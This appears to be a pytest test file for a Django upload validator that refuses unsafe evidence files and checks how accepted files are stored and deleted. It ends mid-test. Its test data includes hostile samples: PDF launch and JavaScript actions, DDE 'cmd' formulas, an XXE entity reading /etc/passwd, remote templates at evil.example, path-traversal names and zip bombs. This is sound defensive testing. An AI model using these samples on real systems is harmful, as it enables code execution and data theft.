"""Files as evidence: what is refused and in which words, what stays on the disk, and how files are handed out."""

import errno
import hashlib
import os
import struct
import zlib
from base64 import b64encode
from hashlib import sha256
from io import BytesIO
from pathlib import Path
from uuid import UUID, uuid4
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.db import DatabaseError, IntegrityError, transaction
from django.urls import reverse
from openpyxl import Workbook

from reporting import evidence
from reporting.evidence import check_file, contents, evidence_path, office
from reporting.evidence import pdf as pdf_check
from reporting.models import Evidence, ProgressReport
from tests.support.evidence_files import (
    EXCEL,
    HTML,
    PDF,
    SVG,
    archive,
    content_types,
    docx,
    pdf,
    pdf_locked,
    pdf_packed,
    picture,
    relation,
    xlsx,
)
from tests.support.exhaustive import first_fast
from tests.support.factories import CommitmentFactory, EvidenceFactory, ProgressReportFactory, published_report
from tests.support.form_filling import filled

NOT_TAKEN = "This type of file is not taken: choose a PDF, DOCX, XLSX, PNG or JPEG."
NOT_WHAT_IT_SAYS = (
    "The content of this file is not what its name says, or it is damaged: save it anew from the program that made it,"
    " and choose it again."
)
DAMAGED = "This PDF is damaged or oddly made: save it as a plain PDF/A, and choose it again."
PATH = "The name of this file holds a path: give the file a plain name, such as ‘report.pdf’."
HIDDEN = "The name of this file holds hidden signs: give the file a plain name."
TOO_LARGE = "This file is larger than 25 MB."
UNPACKS = "This document unpacks to far more than its size: save it anew, and choose it again."
MACROS = "This document holds macros: save it without them, as DOCX or XLSX."
LOCKED = "This document is locked with a password: save it without one, and choose it again."
OLDER = "This is an older Office file, or one with a password: save it anew as DOCX or XLSX, without a password."
LAUNCHES = "This PDF holds an action that starts a program: save it as a plain PDF/A, and choose it again."
SCRIPT = "This PDF holds a script (JavaScript): save it as a plain PDF/A, and choose it again."
BY_ITSELF = "This PDF holds an action that runs by itself: save it as a plain PDF/A, and choose it again."
SENDS = "This PDF holds an action that opens another file or sends data: save it as a plain PDF/A, and choose it again."
ATTACHED = "This PDF holds an embedded file: save it as a plain PDF/A, and choose it again."
MEDIA = "This PDF holds sound, film or an interactive medium: save it as a plain PDF/A, and choose it again."
DYNAMIC = "This PDF holds a dynamic form (XFA): save it as a plain PDF/A, and choose it again."
ELSEWHERE = "This PDF holds content that is kept in another file: save it as a plain PDF/A, and choose it again."
TWO_FORMATS = (
    "This file holds more than one format: there is data before its beginning, after its end or hidden in it."
    " Save it anew from the program that made it, and choose it again."
)
VIRUS_TEST = "This file holds the test pattern of virus scanners (EICAR): choose the document that you want to hand in."
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PIXELS = "This picture has more than 40 million pixels: make it smaller, and choose it again."


def fetches(what):
    return (
        f"This document fetches something from elsewhere when it is opened ({what}): break its links to templates,"
        " pictures and other documents, or save it as a plain PDF/A, and choose it again."
    )


def embeds(what):
    return (
        f"This document holds an embedded object ({what}): remove it, or save the document as a plain PDF/A,"
        " and choose it again."
    )


def declares(part):
    return (
        f"A part of this document, ‘{part}’, declares a document type or entities: save it anew in Word or Excel,"
        " or as a plain PDF/A, and choose it again."
    )


def odd_link(target):
    return (
        f"This document holds a link that is not a web or mail address ({target}): remove the link,"
        " and choose the document again."
    )


def two_types(inner, outer):
    return f"The name of this file holds two types, ‘{inner}’ and ‘{outer}’: give the file a plain name."


def altered(content: bytes, offset: int, form: str, value: int) -> bytes:
    """An archive with a number of the last entry of its table of contents written over."""
    changed = bytearray(content)
    struct.pack_into(form, changed, content.rindex(b"PK\x01\x02") + offset, value)
    return bytes(changed)


def locked() -> bytes:
    return altered(docx(), 8, "<H", 1)


def lying_bomb() -> bytes:
    """A member of a megabyte that says it is a kilobyte, with the checksum of that kilobyte."""
    content = altered(docx(zero=b"\0" * 1_000_000), 24, "<L", 1000)
    return altered(content, 16, "<L", zlib.crc32(b"\0" * 1000))


def with_comment(content: bytes) -> bytes:
    """An archive whose own comment ends as a PDF does."""
    comment = b"\n%%EOF\n"
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def archive_stored(members: dict[str, str]) -> bytes:
    content = BytesIO()
    with ZipFile(content, "w", ZIP_STORED) as made:
        for name, text in members.items():
            made.writestr(name, text)
    return content.getvalue()


def with_object_stream(stream: bytes) -> bytes:
    """A PDF whose fourth object lies in this stream, and whose table says so."""
    body = b"%PDF-1.5\n"
    places = {}
    for number, content in (
        (1, b"<</Type/Catalog/Pages 2 0 R/Lang 4 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"),
        (5, stream),
    ):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    places[6] = len(body)
    rows = [(0, 0, 65535), *((1, places[number], 0) for number in (1, 2, 3)), (2, 5, 0)]
    rows += [(1, places[5], 0), (1, places[6], 0)]
    table = b"".join(struct.pack(">BLH", *row) for row in rows)
    head = b"<</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length %d>>" % len(table)
    return body + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, places[6])


# Taken


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", PDF),
        ("REPORT.PDF", PDF),
        ("report.v1.2.pdf", PDF),
        ("Report.docx.pdf", PDF),
        ("Отчёт 2014 – تقرير.pdf", PDF),
        ("photo.png", picture("PNG")),
        ("photo.jpg", picture("JPEG")),
        ("photo.jpeg", picture("JPEG")),
        ("report.docx", docx()),
        ("table.xlsx", xlsx()),
    ],
)
def test_file_that_is_what_its_name_says_is_taken(name, content):
    file = SimpleUploadedFile(name, content)

    check_file(file)

    assert file.read() == content


def test_workbook_of_a_real_program_is_taken():
    book, content = Workbook(), BytesIO()
    for number in range(500):
        book.active.append([number, number * 2, "the same words in every row"])
    book.save(content)

    check_file(SimpleUploadedFile("table.xlsx", content.getvalue()))

    assert content.getvalue().startswith(b"PK")


def test_document_with_folders_and_unpacked_members_is_taken():
    content = BytesIO(docx(word__media__photo_png=picture()))
    with ZipFile(content, "a") as made:
        made.mkdir("word")
        made.writestr("word/media/other.png", picture())

    check_file(SimpleUploadedFile("report.docx", content.getvalue()))

    assert {member.compress_type for member in ZipFile(content).infolist()} == {ZIP_STORED, ZIP_DEFLATED}


# Refused, through the real form with real files


ABUSE = {
    "another type": ("report.exe", b"MZ", NOT_TAKEN),
    "no type": ("report", PDF, NOT_TAKEN),
    "nothing but a type": (".pdf", PDF, NOT_TAKEN),
    "drawing with a script": ("drawing.svg", SVG, NOT_TAKEN),
    "drawing as a picture": ("drawing.png", SVG, NOT_WHAT_IT_SAYS),
    "page as a document": ("page.pdf", HTML, NOT_WHAT_IT_SAYS),
    "page with a document's mark behind": ("page.pdf", HTML + PDF, NOT_WHAT_IT_SAYS),
    "document that breaks off": ("report.pdf", PDF[:20], NOT_WHAT_IT_SAYS),
    "document that starts a program": ("report.pdf", pdf("", "<</S /Launch /F (cmd.exe)>>"), LAUNCHES),
    "the same, spelt in numbers": ("report.pdf", pdf("", "<</S/#4caunc#68 /F (cmd.exe)>>"), LAUNCHES),
    "picture of another type": ("photo.png", picture("JPEG"), NOT_WHAT_IT_SAYS),
    "picture that breaks off": ("photo.jpg", picture("JPEG", (99, 99))[:-300], NOT_WHAT_IT_SAYS),
    "picture that fills the memory": ("photo.png", picture("PNG", (8000, 5001)), PIXELS),
    "program behind a document's name": ("report.pdf.exe", PDF, NOT_TAKEN),
    "document behind a program's name": ("report.exe.pdf", PDF, two_types(".exe", ".pdf")),
    "picture behind a script's name": ("evil.php.png", picture(), two_types(".php", ".png")),
    "workbook as a document": ("report.docx", xlsx(), NOT_WHAT_IT_SAYS),
    "document as a workbook": ("table.xlsx", docx(), NOT_WHAT_IT_SAYS),
    "any archive": ("report.docx", archive({"report.txt": "x"}), NOT_WHAT_IT_SAYS),
    "archive with something behind": ("report.docx", docx() + b"MZ", NOT_WHAT_IT_SAYS),
    "archive behind something": ("report.docx", b"MZ" + docx(), NOT_WHAT_IT_SAYS),
    "archive that breaks off": ("report.docx", docx()[:-9], NOT_WHAT_IT_SAYS),
    "first bytes of an archive": ("report.docx", b"PK\x03\x04", NOT_WHAT_IT_SAYS),
    "macros": ("report.docx", docx(word__vbaProject_bin=b"x"), MACROS),
    "way out of the folder": ("report.docx", archive({"../../x": "x"}), NOT_WHAT_IT_SAYS),
    "way to the root": ("table.xlsx", archive({"/etc/x": "x"}), NOT_WHAT_IT_SAYS),
    "locked": ("report.docx", locked(), LOCKED),
    "older, or locked whole": ("report.docx", b"\xd0\xcf\x11\xe0" + bytes(600), OLDER),
    "bomb": ("report.docx", docx(zero=bytes(20_000_000)), UNPACKS),
    "bomb that lies": ("report.docx", lying_bomb(), NOT_WHAT_IT_SAYS),
    "crowd of members": ("report.docx", archive({f"{number}": "" for number in range(5001)}), UNPACKS),
    "empty": ("report.pdf", b"", "The submitted file is empty."),
    "path": ("../../etc/passwd.pdf", PDF, PATH),
    "path of another system": ("C:\\x\\y.pdf", PDF, PATH),
    "nothing but a path": ("../..", PDF, PATH),
    "escaped path": ("..&#47;x.pdf", PDF, PATH),
    "over-long": (
        "r" * 147 + ".pdf",
        PDF,
        "The name of this file is longer than 150 signs: give the file a shorter name.",
    ),
    "NUL": ("report\0.pdf", PDF, HIDDEN),
    "control": ("report\x1b.pdf", PDF, HIDDEN),
    "turned direction": ("report\u202efdp.pdf", PDF, HIDDEN),
    "26 MB": ("report.pdf", PDF + bytes(26 * 1024 * 1024), TOO_LARGE),
}

DIGITS_OF_JS = "<</Type/Action/S/J#61vaScript/J#53(app.alert\\(1\\))>>"
GO_TO = "<</S/GoTo/D[3 0 R/Fit]>>"
COMMENT = b"\xff\xfe" + struct.pack(">H", 2 + len(HTML)) + HTML
FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
ACTIVE = '<Override PartName="/xl/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def in_document(body: str) -> bytes:
    return docx(word__document_xml=f'<w:document xmlns:w="urn:w">{body}</w:document>')


def in_workbook(body: str) -> bytes:
    return xlsx(xl__worksheets__sheet1_xml=f"<worksheet>{body}</worksheet>")


def field(*pieces: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return in_document(FIELD.format("begin") + texts + FIELD.format("separate") + FIELD.format("end"))


def linked(kind: str, target: str, **options) -> bytes:
    return docx(word___rels__document_xml_rels=relation(kind, target, **options))


def between_members(content: bytes) -> bytes:
    """Data between the members of an archive, which its table of contents does not name."""
    first = content.index(b"PK\x03\x04", 4)
    with ZipFile(BytesIO(content)) as read:
        directory = read.start_dir
    moved = bytearray(content[:first] + b"hidden data" * 9 + content[first:])
    place = directory + 99
    while (place := moved.find(b"PK\x01\x02", place)) >= 0:
        (offset,) = struct.unpack_from("<L", moved, place + 42)
        struct.pack_into("<L", moved, place + 42, offset + (99 if offset else 0))
        place += 4
    struct.pack_into("<L", moved, len(moved) - 6, directory + 99)
    return bytes(moved)


# What runs, fetches, hides or carries something: refused by what is found, wherever and however it stands.
HOSTILE = {
    "script at the opening": ("a.pdf", pdf(catalog=f"/OpenAction{DIGITS_OF_JS}"), BY_ITSELF),
    "script by name": ("a.pdf", pdf("", DIGITS_OF_JS), SCRIPT),
    "script in packed objects": (
        "a.pdf",
        pdf_packed(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())),
        SCRIPT,
    ),
    "script that nothing leads to": ("a.pdf", pdf("", "[[<</JS(x)>>]]"), SCRIPT),
    "script after going to a page": ("a.pdf", pdf(catalog=f"/OpenAction<</S/GoTo/Next{DIGITS_OF_JS}>>"), BY_ITSELF),
    "action when a page is opened": ("a.pdf", pdf(page="/A#41<</O<</S/Named/N/Print>>>>"), BY_ITSELF),
    "attachment": ("a.pdf", pdf(catalog="/Names<</Embedded#46iles<<>>>>"), ATTACHED),
    "attachment by its stream": ("a.pdf", pdf("", b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"), ATTACHED),
    "attachment on a page": ("a.pdf", pdf(page="/Annots[<</Subtype/FileAttachment>>]"), ATTACHED),
    "rich medium": ("a.pdf", pdf(page="/Annots[<</Subtype/RichMedia>>]"), MEDIA),
    "dynamic form": ("a.pdf", pdf(catalog="/AcroForm<</XF#41[]>>"), DYNAMIC),
    "another machine's file": ("a.pdf", pdf("", "<</S/GoToR/F(\\\\\\\\host\\\\share)>>"), SENDS),
    "form that is sent": ("a.pdf", pdf("", "<</S/SubmitForm>>"), SENDS),
    "content of another file": ("a.pdf", pdf("", b"<</F(x)/Length 0>>stream\n\nendstream"), ELSEWHERE),
    "script as an address": ("a.pdf", pdf("", "<</S/URI/URI(javascript:x)>>"), odd_link("javascript:x")),
    "password to open": ("a.pdf", pdf_locked(user="u", owner="o"), LOCKED),
    "password to change": ("a.pdf", pdf_locked(user="", owner="o"), LOCKED),
    "no page": ("a.pdf", PDF.replace(b"[3 0 R]/Count 1", b"[     ]/Count 0"), DAMAGED),
    "table that lies": ("a.pdf", PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n\n\n"), DAMAGED),
    "PDF and archive": ("a.pdf", PDF + archive({"x": "x"}), TWO_FORMATS),
    "PDF and archive that ends as a PDF": ("a.pdf", with_comment(PDF + archive({"x": "x"})), TWO_FORMATS),
    "PDF and page": ("a.pdf", pdf(HTML.decode()), TWO_FORMATS),
    "PDF with a page behind": ("a.pdf", PDF + HTML, TWO_FORMATS),
    "PDF with another archive": ("a.pdf", pdf("Rar!\x1a\x07"), TWO_FORMATS),
    "PNG and archive": ("a.png", picture() + archive({"x": "x"}), TWO_FORMATS),
    "PNG and page": ("a.png", picture() + HTML, TWO_FORMATS),
    "JPEG and archive": ("a.jpg", picture("JPEG") + archive({"x": "x"}), TWO_FORMATS),
    "JPEG and bytes": ("a.jpg", picture("JPEG") + b"\xff\xd8x", TWO_FORMATS),
    "page in a comment of a JPEG": ("a.jpg", picture("JPEG")[:2] + COMMENT + picture("JPEG")[2:], TWO_FORMATS),
    "PDF in a comment of a JPEG": (
        "a.jpg",
        picture("JPEG")[:2] + b"\xff\xfe\0\x0a%PDF-1.7" + picture("JPEG")[2:],
        TWO_FORMATS,
    ),
    "PDF in an archive": ("a.docx", archive_stored({"x": PDF.decode()}), TWO_FORMATS),
    "hidden between members": ("a.docx", between_members(docx()), TWO_FORMATS),
    "virus test": ("a.pdf", pdf(EICAR), VIRUS_TEST),
    "virus test in a document": ("a.docx", docx(x=EICAR.encode()), VIRUS_TEST),
    "template": ("a.docx", linked("attachedTemplate", "https://evil.example/t.dotm"), fetches("attachedTemplate")),
    "template beside": ("a.docx", linked("attachedTemplate", "t.dotm", external=False), fetches("attachedTemplate")),
    "frame": ("a.docx", linked("frame", "https://evil.example/"), fetches("frame")),
    "picture from elsewhere": ("a.docx", linked("image", "https://evil.example/1.png"), fetches("image")),
    "picture of another machine": ("a.docx", linked("image", "//host/1.png", external=False), fetches("image")),
    "linked object": ("a.docx", linked("oleObject", "https://evil.example/x"), embeds("oleObject")),
    "external in other letters": (
        "a.docx",
        docx(word___rels__x_rels=relation("image", "x.png").replace("External", "EXTERNAL")),
        fetches("image"),
    ),
    "link to another machine": ("a.docx", linked("hyperlink", "\\\\host\\x"), odd_link("\\\\host\\x")),
    "link to a script": ("a.docx", linked("hyperlink", "javascript:x"), odd_link("javascript:x")),
    "document type": ("a.docx", docx(word__document_xml=DOCTYPE), declares("word/document.xml")),
    "document type in UTF-16": (
        "a.docx",
        docx(word__document_xml=DOCTYPE.decode().encode("utf-16")),
        declares("word/document.xml"),
    ),
    "document type in a drawing": ("a.docx", docx(word__media__a_svg=DOCTYPE), declares("word/media/a.svg")),
    "script in a drawing": ("a.docx", docx(word__media__a_svg=SVG), embeds("SVG script")),
    "drawing that fetches": (
        "a.docx",
        docx(word__media__a_svg=b"<svg><image href='https://evil.example/1'/></svg>"),
        fetches("SVG image"),
    ),
    "part that is no XML": ("a.docx", docx(word__document_xml=b"<w>"), NOT_WHAT_IT_SAYS),
    "embedded object": ("a.docx", docx(word__embeddings__o_bin=b"\xd0\xcf\x11\xe0x"), embeds("word/embeddings/o.bin")),
    "embedded program": ("a.docx", docx(word__media__a_png=b"MZx"), embeds("word/media/a.png")),
    "embedded document": ("a.docx", docx(word__embeddings__a_docx=docx()), embeds("word/embeddings/a.docx")),
    "workbook of a chart that fetches": (
        "a.docx",
        docx(word__embeddings__a_xlsx=in_workbook("<c><f>cmd|'/c calc'!A0</f></c>")),
        fetches("DDE"),
    ),
    "subdocument": ("a.docx", in_document("<w:subDoc/>"), fetches("subdoc")),
    "another document's text": ("a.docx", in_document("<w:altChunk/>"), fetches("altchunk")),
    "DDE in a field": ("a.docx", field("DDEAUTO cmd"), fetches("DDEAUTO")),
    "DDE in pieces": ("a.docx", field(" DD", "E cmd"), fetches("DDE")),
    "DDE in a simple field": ("a.docx", in_document("<w:fldSimple w:instr=' dde x'/>"), fetches("dde")),
    "DDE in a workbook": ("a.xlsx", in_workbook("<c><f>cmd|'/c calc'!A0</f></c>"), fetches("DDE")),
    "function that fetches": ("a.xlsx", in_workbook("<c><f>_xlfn.WEBSERVICE(A1)</f></c>"), fetches("WEBSERVICE")),
    "connection": ("a.xlsx", xlsx(xl__connections_xml=b"<x><webPr/></x>"), fetches("webpr")),
    "function in pieces": ("a.xlsx", in_workbook("<c><f>WEB<x/>SERVICE(A1)</f></c>"), fetches("WEBSERVICE")),
    "function in a formula within it": ("a.xlsx", in_workbook("<c><f>1<f/>+RTD(A1)</f></c>"), fetches("RTD")),
    "function in a rule": ("a.xlsx", in_workbook("<cfRule><formula>RTD(A1)</formula></cfRule>"), fetches("RTD")),
    "web video": ("a.docx", in_document("<w:webVideoPr embeddedHtml='x'/>"), fetches("webvideopr")),
    "web extension": ("a.docx", linked("webextension", "x.xml", external=False), fetches("webextension")),
    "link to a script in a field": ("a.docx", field('HYPERLINK "javascript:x"'), odd_link("javascript:x")),
    "link to another machine in a field": (
        "a.docx",
        field('HYPERLINK "', '\\\\\\\\host\\\\x"'),
        odd_link("\\\\host\\x"),
    ),
    "macro sheet": ("a.xlsx", xlsx(xl__macrosheets__s_xml=b"<x/>"), MACROS),
    "active control": (
        "a.xlsx",
        archive({"[Content_Types].xml": content_types(EXCEL, ACTIVE), "main.xml": "<w/>"}),
        embeds("activex+xml"),
    ),
}


@pytest.mark.parametrize("case", first_fast(HOSTILE))
def test_what_runs_fetches_or_hides_something_is_refused(case):
    name, content, sentence = HOSTILE[case]

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile(name, content))

    assert refusal.value.messages == [sentence]


HARMLESS = {
    "page at which it opens": ("a.pdf", pdf(catalog="/OpenAction[3 0 R/Fit]")),
    "page to go to": ("a.pdf", pdf(catalog=f"/OpenAction{GO_TO}")),
    "web link": ("a.pdf", pdf(page="/Annots[<</Subtype/Link/A<</S/URI/URI(https://ilo.org/a)>>>>]")),
    "font of that name": ("a.pdf", pdf(page="/Tabs/S", catalog="/X<</AA<</Type/Font>>>>")),
    "white space behind": ("a.pdf", PDF + b"\r\n\0\0"),
    "packed objects": ("a.pdf", pdf_packed()),
    "preview behind a photograph": ("a.jpg", picture("JPEG") + picture("JPEG")),
    "web link of a document": ("a.docx", linked("hyperlink", "https://www.ilo.org/")),
    "mail link of a document": ("a.docx", linked("hyperlink", "mailto:a@ilo.org")),
    "picture of its own": ("a.docx", linked("image", "media/1.png", external=False)),
    "ordinary fields": ("a.docx", field("HYPERLINK ", "https://x.example/dde")),
    "link to a place of its own": ("a.docx", field('HYPERLINK \\l "javascript:x"')),
    "workbook of a chart": ("a.docx", docx(word__embeddings__a_xlsx=xlsx())),
    "drawing": ("a.docx", docx(word__media__a_svg=b"<svg style='fill:url(#a)'><path/></svg>")),
    "ordinary formulas": ("a.xlsx", in_workbook("<c><f>SUM('a|b'!A1)&amp;\"x|y\"</f></c>")),
}


@pytest.mark.parametrize("case", first_fast(HARMLESS))
def test_what_ordinary_programs_write_is_taken(case):
    name, content = HARMLESS[case]
    file = SimpleUploadedFile(name, content)

    check_file(file)

    assert file.read() == content


def test_objects_that_unpack_to_far_more_are_not_unpacked():
    packed = zlib.compress(b"4 0 null" + b" " * (pdf_check.MAX_UNPACKED + 1), 9)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("a.pdf", with_object_stream(stream)))

    assert refusal.value.messages == [UNPACKS]


def test_crowd_of_objects_is_not_read_to_its_end(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_NODES", 10)

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("a.pdf", pdf("", "[" + "<<>>" * 20 + "]")))

    assert refusal.value.messages == [
        "This PDF holds more than 10 objects: save it as a plain PDF/A or in parts, and choose it again."
    ]


def sent(data: dict, files: dict[str, tuple[str, bytes]]) -> dict:
    """A form as a browser sends it, whatever the files are called: the test client would strip their names."""
    mark = "mark-of-the-form"
    body = bytearray()
    for name, value in data.items():
        for one in value if isinstance(value, list) else [value]:
            body += f'--{mark}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{one}\r\n'.encode()
    for name, (called, content) in files.items():
        head = f'--{mark}\r\nContent-Disposition: form-data; name="{name}"; filename="'
        body += head.encode() + called.replace("\\", "\\\\").encode() + b'"\r\n\r\n' + content + b"\r\n"
    return {"data": bytes(body + f"--{mark}--\r\n".encode()), "content_type": f"multipart/form-data; boundary={mark}"}


ADD = "/admin/reporting/progressreport/add/"


@pytest.fixture
def write(client, ilo_focal_point, commitment, settings, tmp_path):
    """Send the form of a report with some files, each as evidence with a title of its own."""
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "uploads")
    Path(settings.FILE_UPLOAD_TEMP_DIR).mkdir()
    client.force_login(ilo_focal_point)

    def write(*files, **typed):
        form = client.get(ADD)
        data = filled(form, commitment=commitment.pk, status="in_progress", achieved="What was typed.", **typed)
        for number in range(len(files)):
            data |= {f"evidence-{number}-kind": "publication", f"evidence-{number}-title": f"Title {number}"}
        data["evidence-TOTAL_FORMS"] = str(len(files))
        return client.post(ADD, **sent(data, {f"evidence-{number}-file": file for number, file in enumerate(files)}))

    return write


def stored(settings) -> list[Path]:
    """All files below the folders of evidence and of running uploads."""
    folders = {Path(settings.MEDIA_ROOT), Path(settings.FILE_UPLOAD_TEMP_DIR or settings.MEDIA_ROOT)}
    return sorted(path for folder in folders for path in folder.rglob("*") if path.is_file())


def said_at_files(page) -> list[list[str]]:
    return [form.errors.get("file", []) for form in page.context["inline_admin_formsets"][0].formset.forms]


def test_abuse_is_refused_in_a_sentence_at_its_field_and_nothing_is_stored(write, settings):
    page = write(*((name, content) for name, content, _sentence in ABUSE.values()))

    result = dict(zip(ABUSE, said_at_files(page), strict=True))
    assert result == {abuse: [sentence] for abuse, (_name, _content, sentence) in ABUSE.items()}
    assert (ProgressReport.objects.count(), Evidence.objects.count(), stored(settings)) == (0, 0, [])


@pytest.mark.parametrize("abuse", ["drawing as a picture", "bomb", "path", "empty"])
def test_what_else_was_typed_is_kept(abuse, write, settings):
    name, content, sentence = ABUSE[abuse]

    page = write((name, content))

    assert page.status_code == 200
    assert said_at_files(page) == [[sentence]]
    html = page.content.decode()
    assert "What was typed." in html and 'value="Title 0"' in html
    assert stored(settings) == []


def test_good_file_beside_a_bad_one_is_not_stored_and_has_to_be_chosen_again(write, settings):
    page = write(("good.pdf", PDF), ("bad.pdf", HTML))

    assert said_at_files(page) == [[], [NOT_WHAT_IT_SAYS]]
    assert (Evidence.objects.count(), stored(settings)) == (0, [])
    html = page.content.decode()
    assert "‘good.pdf’ could not be kept, because this form was not saved. Choose it again." in html
    assert "‘bad.pdf’ could not be kept" not in html


def test_file_is_asked_for_again_where_another_field_is_wrong(write, settings):
    page = write(("good.pdf", PDF), period_start="31 February")

    assert "‘good.pdf’ could not be kept" in page.content.decode()
    assert stored(settings) == []


def test_file_is_stored_under_a_name_of_its_own_with_size_and_digest(write, settings):
    answer = write(("Confidential draft.PDF", PDF))

    piece = Evidence.objects.get()
    (path,) = stored(settings)
    assert answer.status_code == 302
    assert path.read_bytes() == PDF
    assert UUID(path.stem).version == 4 and path.suffix == ".pdf"
    assert (piece.file_size, piece.file_digest) == (len(PDF), sha256(PDF).hexdigest())
    assert path.stat().st_mode & 0o077 == 0


def test_large_file_goes_over_the_disk_and_leaves_nothing_beside(write, settings):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10

    write(("report.pdf", PDF))

    assert [path.read_bytes() for path in stored(settings)] == [PDF]


def test_file_sent_in_letters_is_read_back(client, write, ilo_focal_point, commitment, settings):
    """An old way to send files, which the parser undoes before any of it is counted."""
    form = client.get(ADD)
    data = filled(form, commitment=commitment.pk, achieved="x")
    data |= {"evidence-0-kind": "publication", "evidence-0-title": "t"}
    body = sent(data, {"evidence-0-file": ("r.pdf", b64encode(PDF))})
    body["data"] = body["data"].replace(
        b'filename="r.pdf"\r\n', b'filename="r.pdf"\r\nContent-Transfer-Encoding: base64\r\n'
    )

    client.post(ADD, **body)

    assert Evidence.objects.get().file.read() == PDF


def test_more_than_can_be_taken_fills_no_disk(rf, settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    request = rf.post("/", **sent({}, {"file": ("report.pdf", bytes(27 * 1024 * 1024))}))

    kept = request.FILES["file"]

    assert evidence.MAX_BYTES < kept.size <= evidence.MAX_BYTES + 64 * 1024
    request.close()
    assert list(tmp_path.iterdir()) == []


def test_kept_file_is_named_by_kind_and_size_on_the_form(client, ilo_focal_point, commitment):
    piece = with_file(report=ProgressReportFactory(commitment=commitment))
    client.force_login(ilo_focal_point)

    page = client.get(reverse("admin:reporting_progressreport_change", args=[piece.report.pk])).content.decode()

    assert f'<a href="{private_address(piece)}">Download the file (PDF, {len(PDF)}\xa0bytes)</a>' in page
    assert piece.file.name not in page


# The checks by themselves


def test_file_of_the_largest_size_is_taken_and_one_byte_more_is_refused(monkeypatch):
    monkeypatch.setattr(evidence, "MAX_BYTES", len(PDF))

    check_file(SimpleUploadedFile("report.pdf", PDF))

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("report.pdf", PDF + b"\n"))
    assert refusal.value.messages == [TOO_LARGE]


def test_limits():
    assert evidence.MAX_BYTES == 25 * 1024 * 1024
    assert contents.MAX_PIXELS == 40_000_000
    assert (office.MAX_MEMBERS, office.MAX_UNPACKED) == (5_000, 200 * 1024 * 1024)


def test_no_member_is_unpacked_before_all_are_known_to_be_small(monkeypatch):
    monkeypatch.setattr(office, "unpacked", lambda *_: pytest.fail("Unpacked."))

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("report.docx", docx(zero=bytes(20_000_000))))
    assert refusal.value.messages == [UNPACKS]


def test_directory_that_is_too_large_is_not_read(monkeypatch):
    monkeypatch.setattr(office, "ZipFile", lambda *_: pytest.fail("Read."))
    crowd = archive({f"{number}": "" for number in range(5001)})

    with pytest.raises(ValidationError) as refusal:
        check_file(SimpleUploadedFile("report.docx", crowd))
    assert refusal.value.messages == [UNPACKS]


def test_path_keeps_only_the_type_of_the_name():
    path = evidence_path(None, "Confidential draft.PDF")

    folder, name = path.split("/")
    assert folder == "evidence"
    assert UUID(name.removesuffix(".pdf")).version == 4


def test_same_name_is_kept_under_another_path():
    assert evidence_path(None, "report.pdf") != evidence_path(None, "report.pdf")


@pytest.mark.django_db
def test_field_checks_a_new_file_and_trusts_a_kept_one(settings):
    piece = EvidenceFactory(file=ContentFile(PDF, "report.pdf"))
    Path(piece.file.path).unlink()

    piece.full_clean()

    piece.file = SimpleUploadedFile("page.html", b"<html>")
    with pytest.raises(ValidationError) as refusal:
        piece.full_clean()
    assert set(refusal.value.message_dict) == {"file"}


# Files come and go with their rows


committing = pytest.mark.django_db(transaction=True)


def with_file(content: bytes = PDF, **fields) -> Evidence:
    return EvidenceFactory(file=ContentFile(content, "report.pdf"), **fields)


def contents_of(settings) -> list[bytes]:
    return [path.read_bytes() for path in stored(settings)]


@committing
def test_file_of_a_deleted_row_is_removed(settings):
    kept, piece, other = with_file(pdf("kept")), with_file(), with_file()

    piece.delete()
    Evidence.objects.filter(pk=other.pk).delete()

    assert contents_of(settings) == [pdf("kept")]
    assert list(Evidence.objects.all()) == [kept]


@committing
def test_file_of_a_deleted_draft_is_removed(client, ilo_focal_point, commitment, settings):
    report = ProgressReportFactory(commitment=commitment)
    with_file(report=report)
    client.force_login(ilo_focal_point)

    client.post(reverse("admin:reporting_progressreport_delete", args=[report.pk]), {"post": "yes"})

    assert (ProgressReport.objects.count(), stored(settings)) == (0, [])


@committing
def test_file_that_is_replaced_or_taken_off_is_removed(settings):
    piece = with_file(pdf("first"))

    piece.file = ContentFile(pdf("second"), "report.pdf")
    piece.save()
    replaced = contents_of(settings)
    piece.file = ""
    piece.save()

    assert replaced == [pdf("second")]
    assert stored(settings) == []
    piece.refresh_from_db()
    assert (piece.file_size, piece.file_digest) == (None, "")


@committing
def test_file_stays_while_the_row_is_saved_otherwise(settings):
    piece = with_file()

    piece.title = "Another title"
    piece.save()
